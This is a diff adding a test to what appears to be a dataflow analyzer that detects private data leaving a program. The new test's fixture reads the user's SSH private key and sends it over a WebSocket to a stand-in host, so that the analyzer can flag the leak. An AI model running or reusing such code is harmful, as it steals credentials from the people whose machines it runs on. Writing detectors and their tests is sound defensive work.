@@ -453,6 +453,15 @@ describe('dataflow analysis', () => {
       assert.deepEqual(summary(await flowsOf('javascript', code)), ['privacy: every field of a form a visitor submits -> network']);
     });
 
+    it('walks an event handler assigned to an on… property, as a callback passed to on() is walked', async () => {
+      const key = "const k = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\nconst ws = new WebSocket('wss://c.example/ws');\n";
+      for (const handler of ['ws.onopen = () => ws.send(k);\n', 'ws.onopen = function () { ws.send(k); };\n']) {
+        assert.deepEqual(summary(await flowsOf('javascript', key + handler)), ['secret: the SSH private key -> socket'], handler);
+      }
+      // A property that is not an event handler is a value, not code that runs.
+      assert.deepEqual(await flowsOf('javascript', key + 'ws.transform = () => ws.send(k);\n'), []);
+    });
+
     it('does not read the elements of something that is not a form as private', async () => {
       const code = 'const f = {};\nlist.elements.forEach((el) => { f[el.id] = el.value; });\n' + beacon;
       assert.deepEqual(await flowsOf('javascript', code), []);
